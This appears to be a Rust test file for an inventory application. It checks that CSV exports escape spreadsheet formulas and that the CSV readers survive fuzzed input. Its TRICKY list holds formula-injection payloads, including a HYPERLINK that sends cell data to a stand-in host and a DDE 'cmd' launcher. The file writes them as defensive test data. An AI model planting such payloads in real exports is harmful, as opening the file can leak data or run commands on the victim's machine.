//! CSV files across areas, on real stores: every CSV we write (assets, cables, the cable
//! schedule, reports) opens in a spreadsheet without running a formula and, where we import it
//! back, imports to the same values; and every CSV reader (assets, cables, cable test results,
//! device types) survives random and mutated files without a panic, with bounded problems.

use proptest::prelude::*;
use proptest::test_runner::{Config, TestRunner};

use crate::assets::{AssetInput, Date};
use crate::cables::csv_io;
use crate::cables::model::{CableKind, LengthUnit, PortRole};
use crate::cables::ops::CableDraft;
use crate::cables::schedule::ScheduleScope;
use crate::csv_file::{CsvOptions, MAX_CELL_BYTES};
use crate::ids::{AssetId, CableId};
use crate::racks::catalogue;
use crate::reports::{write_csv, Language, ReportKind};
use crate::store::Workspace;
use crate::testkit::{end, fresh_workspace, plant, stamp};
use crate::text::MAX_SHOWN_CHARS;

/// Values a spreadsheet would run, and ones that only look like it.
const TRICKY: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"클릭\")",
    "=1+1",
    "+82-2-1234",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "'따옴표로 시작",
    "-",
    "평범한 값",
];

/// The cells of a CSV as a spreadsheet gets them (no reading back of ours).
fn cells(bytes: &[u8]) -> Vec<String> {
    let bytes = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap_or(bytes);
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(bytes)
        .records()
        .flat_map(|record| {
            let record = record.expect("our CSV parses");
            record.iter().map(str::to_owned).collect::<Vec<_>>()
        })
        .collect()
}

/// Fails on a cell a spreadsheet would take for a formula (OWASP: `= + - @`, tab, CR first).
fn assert_no_formula(what: &str, bytes: &[u8]) {
    for cell in cells(bytes) {
        let number = cell
            .trim_start_matches(['+', '-'])
            .bytes()
            .all(|b| b.is_ascii_digit() || b == b'.');
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || number,
            "{what}: {cell:?} opens as a formula"
        );
    }
}

fn register_tricky(ws: &Workspace) {
    for (n, value) in TRICKY.iter().enumerate() {
        let input = AssetInput {
            asset_tag: Some(format!("{value}#{n}")),
            asset_type: Some("server".into()),
            status: Some("in_use".into()),
            model: Some((*value).into()),
            owner: Some((*value).into()),
            notes: Some(format!("{value}\n둘째 줄")),
            tags: Some("=1+1".into()),
            ..AssetInput::default()
        };
        ws.register_asset(AssetId(ulid::Ulid(100 + n as u128)), &input, &stamp(2))
            .expect("registered");
    }
}

#[test]
fn assets_export_without_formulas_and_import_back_to_the_same_values() {
    let (_dir, store, ws) = fresh_workspace();
    register_tricky(&ws);
    let rows = ws.query_assets(&Default::default()).rows;
    let mut bytes = Vec::new();
    crate::assets::csv_io::export(&rows, &mut bytes, true).expect("export");
    assert_no_formula("assets", &bytes);

    let copy = store.create_workspace("copy", 3).expect("workspace");
    let copy = store.workspace(&copy.id).expect("open");
    let mut n = 1_000u128;
    copy.import_assets(&bytes, CsvOptions::default(), &stamp(4), || {
        n += 1;
        AssetId(ulid::Ulid(n))
    })
    .expect("our export imports");
    let fields = |ws: &Workspace| {
        let mut rows: Vec<_> = ws
            .query_assets(&Default::default())
            .rows
            .into_iter()
            .map(|row| {
                let a = row.asset;
                (a.asset_tag, a.model, a.owner, a.notes, a.tags)
            })
            .collect();
        rows.sort();
        rows
    };
    assert_eq!(fields(&copy), fields(&ws));
    assert!(fields(&copy)
        .iter()
        .any(|(tag, ..)| tag.starts_with("=HYPERLINK(")));
}

#[test]
fn cables_the_schedule_and_reports_are_written_without_formulas_and_cables_read_back() {
    let (_dir, store, ws) = fresh_workspace();
    register_tricky(&ws);
    let rack = plant(&ws, &stamp(1));
    let cables = [
        (
            "=1+1",
            "+빨강",
            (10, PortRole::Interface, "eno1"),
            (11, "1"),
            CableKind::Cat6a,
        ),
        (
            "@C-2",
            "-",
            (10, PortRole::Interface, "eno2"),
            (11, "2"),
            CableKind::Cat6a,
        ),
        (
            "'C-3",
            "=파랑",
            (10, PortRole::Interface, "ens1f0"),
            (12, "Ethernet1"),
            CableKind::Dac,
        ),
    ];
    for (n, (label, colour, (a, role, a_port), (b, b_port), kind)) in cables.into_iter().enumerate()
    {
        let b_role = if b == 11 {
            PortRole::Front
        } else {
            PortRole::Interface
        };
        ws.add_cable(
            CableId(ulid::Ulid(200 + n as u128)),
            &CableDraft {
                a: end(rack, a, role, a_port),
                b: end(rack, b, b_role, b_port),
                kind,
                colour: colour.into(),
                length: Some(2.0),
                length_unit: LengthUnit::Metres,
                label: label.into(),
            },
            &stamp(3),
        )
        .expect("cable");
    }
    let mut cables = Vec::new();
    ws.export_cables_csv(&mut cables, true).expect("cables");
    assert_no_formula("cables", &cables);
    let mut schedule = Vec::new();
    ws.schedule_csv(ScheduleScope::Workspace, &mut schedule, true)
        .expect("schedule");
    assert_no_formula("schedule", &schedule);
    assert!(cells(&schedule).iter().any(|cell| cell == "'=1+1"));
    for kind in [ReportKind::Inventory, ReportKind::ByOwner] {
        let report = ws
            .asset_report(kind, &Date("2026-06-01".into()))
            .expect("report");
        for language in [Language::Korean, Language::English] {
            let mut bytes = Vec::new();
            write_csv(&report, language, &mut bytes, true).expect("report csv");
            assert_no_formula("report", &bytes);
        }
    }

    let copy = store.create_workspace("copy", 5).expect("workspace");
    let copy = store.workspace(&copy.id).expect("open");
    plant(&copy, &stamp(1));
    let mut n = 500u128;
    copy.import_cables_csv(
        &cables,
        CsvOptions::default(),
        || {
            n += 1;
            CableId(ulid::Ulid(n))
        },
        &stamp(6),
    )
    .expect("our export imports");
    let shape = |ws: &Workspace| {
        let mut cables: Vec<(String, String)> = ws
            .cables()
            .into_iter()
            .map(|cable| (cable.label, cable.colour))
            .collect();
        cables.sort();
        cables
    };
    assert_eq!(shape(&copy), shape(&ws));
}

/// The readers, each given `bytes`: nothing may panic, and every problem stays small.
fn read_everywhere(ws: &Workspace, bytes: &[u8], options: CsvOptions) {
    let preview = ws.preview_import(bytes, options);
    for row in preview.rejected.iter().chain(&preview.sample) {
        for problem in &row.errors {
            assert!(problem.value.len() <= MAX_CELL_BYTES, "{}", problem.code);
            if problem.code == "control_character" || problem.code == "cell_too_long" {
                assert!(problem.value.chars().count() <= MAX_SHOWN_CHARS + 1);
                assert!(!problem.value.chars().any(char::is_control));
            }
        }
    }
    if let Ok(file) = csv_io::parse(bytes, options) {
        for problem in &file.problems {
            assert!(problem.value.chars().count() <= MAX_SHOWN_CHARS + 1);
        }
    }
    let text = String::from_utf8_lossy(bytes);
    let _ = catalogue::parse_csv(&text, options);
    // A file that imports is written: the workspace's cables are what it had or more.
    let _ = ws.import_cables_csv(bytes, options, || CableId(ulid::Ulid::new()), &stamp(7));
    let _ = ws.import_cable_tests_csv(bytes, options, &stamp(8));
}

/// Real files to mutate: an asset export, a cable export, test results, device types.
fn seeds() -> Vec<Vec<u8>> {
    let (_dir, _store, ws) = fresh_workspace();
    register_tricky(&ws);
    let mut assets = Vec::new();
    crate::assets::csv_io::export(
        &ws.query_assets(&Default::default()).rows,
        &mut assets,
        true,
    )
    .expect("assets");
    let cables = "side_a_device,side_a_name,side_b_device,side_b_name,type,color,length,length_unit,label,status\n\
                  web-01,eno1,pp-1,front:1,cat6a,blue,2,m,\"=1+1\",planned\n\
                  web-01,ens1f0,tor-1,Ethernet1,dac-passive,black,1,m,DAC-01,connected\n";
    let tests =
        "label,result,tester,date,length_m,loss_db\nDAC-01,pass,이서연,2026-11-30 10:00,1.0,\n";
    let types = "manufacturer,model,u_height,interfaces\nDell,R660,1,eno{1-2}:1000base-t\n";
    vec![assets, cables.into(), tests.into(), types.into()]
}

#[derive(Clone, Debug)]
enum Mutation {
    Flip(prop::sample::Index, u8),
    Cut(prop::sample::Index),
    Insert(prop::sample::Index, &'static [u8]),
    HugeField(prop::sample::Index),
}

fn mutation() -> impl Strategy<Value = Mutation> {
    let inserts: &'static [&'static [u8]] = &[
        b"\"",
        b"\n",
        b"\r",
        b"\0",
        b",",
        b"'",
        b"=",
        b"\"\"",
        b"\xff",
        b"\xe2\x80",
        b"\xef\xbb\xbf",
        b"\x1b[2J",
    ];
    prop_oneof![
        (any::<prop::sample::Index>(), 0u8..8).prop_map(|(at, bit)| Mutation::Flip(at, bit)),
        any::<prop::sample::Index>().prop_map(Mutation::Cut),
        (any::<prop::sample::Index>(), prop::sample::select(inserts))
            .prop_map(|(at, bytes)| Mutation::Insert(at, bytes)),
        any::<prop::sample::Index>().prop_map(Mutation::HugeField),
    ]
}

fn mutate(mut bytes: Vec<u8>, mutations: &[Mutation]) -> Vec<u8> {
    for mutation in mutations {
        let at = |index: &prop::sample::Index, len: usize| index.index(len + 1);
        match mutation {
            Mutation::Flip(index, bit) if !bytes.is_empty() => {
                let at = index.index(bytes.len());
                bytes[at] ^= 1 << bit;
            }
            Mutation::Flip(..) => {}
            Mutation::Cut(index) => bytes.truncate(at(index, bytes.len())),
            Mutation::Insert(index, insert) => {
                let at = at(index, bytes.len());
                bytes.splice(at..at, insert.iter().copied());
            }
            Mutation::HugeField(index) => {
                let at = at(index, bytes.len());
                let huge = vec![b'A'; MAX_CELL_BYTES + 1];
                bytes.splice(at..at, huge);
            }
        }
    }
    bytes
}

/// Runs `cases` cases of `strategy` on one workspace (a store per case would be most of the
/// time); a failing case is shrunk and reported.
fn run<S: Strategy>(cases: u32, strategy: S, test: impl Fn(S::Value)) {
    let mut runner = TestRunner::new(Config {
        cases,
        ..Config::default()
    });
    runner
        .run(&strategy, |value| {
            test(value);
            Ok(())
        })
        .unwrap_or_else(|failure| panic!("{failure}"));
}

// Bounded for CI: about a thousand files in all, each read five ways, in a few seconds.
#[test]
fn every_csv_reader_survives_mutated_real_files() {
    let (_dir, _store, ws) = fresh_workspace();
    plant(&ws, &stamp(1));
    let seeds = seeds();
    let strategy = (
        0..seeds.len(),
        proptest::collection::vec(mutation(), 1..6),
        any::<bool>(),
    );
    run(512, strategy, |(seed, mutations, ignore)| {
        let bytes = mutate(seeds[seed].clone(), &mutations);
        read_everywhere(
            &ws,
            &bytes,
            CsvOptions {
                ignore_unknown_columns: ignore,
            },
        );
    });
}

#[test]
fn every_csv_reader_survives_random_bytes() {
    let (_dir, _store, ws) = fresh_workspace();
    let strategy = prop_oneof![
        proptest::collection::vec(any::<u8>(), 0..512),
        "[a-z_,\"'\r\n\0=가]{0,200}".prop_map(String::into_bytes),
    ];
    run(512, strategy, |bytes| {
        read_everywhere(&ws, &bytes, CsvOptions::default());
        read_everywhere(
            &ws,
            &bytes,
            CsvOptions {
                ignore_unknown_columns: true,
            },
        );
    });
}

/// Architecture Invariant: every CSV the app and the CLI write goes through `SpreadsheetCsv`
/// and every CSV they read through `CsvTable` (`crate::csv_file`), so no writer forgets the
/// formula rule and no reader the control characters or the unknown columns.
#[test]
fn csv_is_written_and_read_only_through_csv_file() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut found = Vec::new();
    for dir in [
        "src",
        "../cli/src",
        "../print/src",
        "../sync-client/src",
        "../../src-tauri/src",
        "../../sync-server/src",
    ] {
        let files = super::architecture::sources(&root.join(dir));
        assert!(!files.is_empty(), "no sources under {dir}");
        for (path, text) in files {
            let shown = path.display().to_string();
            // The one place, and tests that read what we write as a spreadsheet would.
            if shown.contains("/csv_file/")
                || shown.contains("/tests/")
                || shown.ends_with("tests.rs")
            {
                continue;
            }
            for (n, line) in text.lines().enumerate() {
                let code = line.split("//").next().unwrap_or_default();
                if [
                    "csv::Writer",
                    "csv::Reader",
                    "WriterBuilder",
                    "ReaderBuilder",
                ]
                .iter()
                .any(|name| code.contains(name))
                {
                    found.push(format!("{shown}:{}", n + 1));
                }
            }
        }
    }
    assert_eq!(found, Vec::<String>::new());
}
